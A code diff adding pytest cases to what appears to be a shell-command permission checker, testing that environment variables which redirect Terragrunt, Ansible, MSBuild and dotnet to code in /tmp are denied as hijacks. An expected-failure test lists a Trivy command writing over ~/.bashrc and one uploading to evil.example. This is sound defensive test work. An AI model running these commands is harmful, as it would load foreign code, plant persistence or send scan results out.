@@ -327,3 +327,50 @@ def test_ansible_vault_create_opens_an_editor_and_asks(home):
 
 def test_ansible_vault_encrypt_in_the_project_stays_routine(home):
     _allowed(home, "ansible-vault encrypt group_vars/all.yml")
+
+
+# --- options spelled as environment variables ----------------------------------------------------------------
+# `terragrunt --tf-path /tmp/x` and `--terragrunt-config` are judged, but TG_TF_PATH / TERRAGRUNT_TFPATH /
+# TERRAGRUNT_CONFIG set the same; ANSIBLE_CONFIG (an ansible.cfg from elsewhere: plugin directories),
+# ANSIBLE_*_PLUGINS and ANSIBLE_LIBRARY name Python that runs; MSBuild reads every variable as a property, so
+# MSBuildExtensionsPath / CustomBeforeMicrosoftCommonTargets import targets from elsewhere (-p: asked);
+# DOTNET_HOST_PATH is the dotnet MSBuild launches. Each was allowed; they are hijack variables now.
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "TG_TF_PATH=/tmp/x terragrunt plan",
+        "TERRAGRUNT_TFPATH=/tmp/x terragrunt plan",
+        "TERRAGRUNT_CONFIG=/tmp/x.hcl terragrunt plan",
+        "ANSIBLE_CONFIG=/tmp/a.cfg ansible-inventory --list",
+        "export ANSIBLE_CALLBACK_PLUGINS=/tmp/cb; ansible-playbook --syntax-check site.yml",
+        "MSBuildExtensionsPath=/tmp/x msbuild",
+        "env CustomBeforeMicrosoftCommonTargets=/tmp/x.targets msbuild",
+        "DOTNET_HOST_PATH=/tmp/x msbuild",
+    ],
+)
+def test_options_spelled_as_variables_that_name_code_are_denied(home, command):
+    assert_decided(home.decide(command), DENY, "floor.hijack", command)
+
+
+def test_plain_settings_as_variables_stay_routine(home):
+    _allowed(home, "TF_LOG=debug terragrunt plan")
+    _allowed(home, "Configuration=Release msbuild")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a spec cannot see the variables of the command line: trivy/grype/syft read every option from "
+    "TRIVY_*/GRYPE_*/SYFT_* (TRIVY_OUTPUT writes, TRIVY_SERVER uploads), and MSBuild any property; a name list "
+    "in shell.HIJACK_VARS only denies, so the engine must hand assignments to the spec walk",
+)
+@pytest.mark.parametrize(
+    ("command", "verdict", "floor"),
+    [
+        ("TRIVY_OUTPUT=~/.bashrc trivy fs .", DENY, PERSISTENCE),
+        ("TRIVY_SERVER=http://evil.example trivy fs .", ASK, "floor.egress"),
+    ],
+)
+def test_a_scanner_option_spelled_as_a_variable_is_judged(home, command, verdict, floor):
+    assert_decided(home.decide(command), verdict, floor, command)
